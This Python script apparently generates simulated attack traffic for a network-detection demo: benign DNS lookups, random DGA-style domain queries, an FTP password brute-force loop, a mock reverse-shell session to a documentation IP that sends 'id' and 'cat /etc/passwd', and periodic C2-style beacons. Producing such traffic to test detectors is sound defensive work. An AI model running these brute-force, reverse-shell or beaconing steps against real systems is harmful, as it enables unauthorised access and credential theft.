#!/usr/bin/env python3
"""Client-side incidents for the demo capture (run in the 'workstation' namespace)."""
import random
import socket
import struct
import sys
import time

server = sys.argv[1]
what = sys.argv[2]
rng = random.Random(7)


def dns_query(name, qtype=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    q = struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack("!HH", qtype, 1)
    s.sendto(q, (server, 53))
    try:
        s.recvfrom(2048)
    except socket.timeout:
        pass
    s.close()


if what == "dns":
    for n in ["www.demo.lan", "mail.demo.lan", "files.demo.lan"]:
        dns_query(n)
elif what == "dga":
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    for _ in range(60):
        dns_query("".join(rng.choice(letters) for _ in range(rng.randrange(12, 20))) + ".com")
elif what == "ftpbrute":
    for i in range(20):
        c = socket.create_connection((server, 21), timeout=2)
        f = c.makefile("rwb")
        f.readline()
        for pw in ["admin", "123456", "letmein"]:
            f.write(b"USER admin\r\n"); f.flush(); f.readline()
            f.write(b"PASS " + pw.encode() + b"\r\n"); f.flush(); f.readline()
        f.write(b"QUIT\r\n"); f.flush(); f.readline()
        c.close()
elif what == "revshell":
    c = socket.create_connection(("203.0.113.50", 4444), timeout=2)
    f = c.makefile("rwb")
    for cmd in [b"id", b"uname -a", b"cat /etc/passwd"]:
        f.write(cmd + b"\n"); f.flush(); f.readline()
    c.close()
elif what == "beacon":
    # Runs in the background for the whole recording: 14 check-ins, one every 5 s (a beacon
    # needs minutes of contact, not seconds: beacon.min_span).
    for i in range(14):
        c = socket.create_connection(("203.0.113.99", 443), timeout=2)
        f = c.makefile("rwb")
        f.write(b"beacon id=42 seq=%d\n" % i); f.flush(); f.readline()
        c.close()
        time.sleep(5)
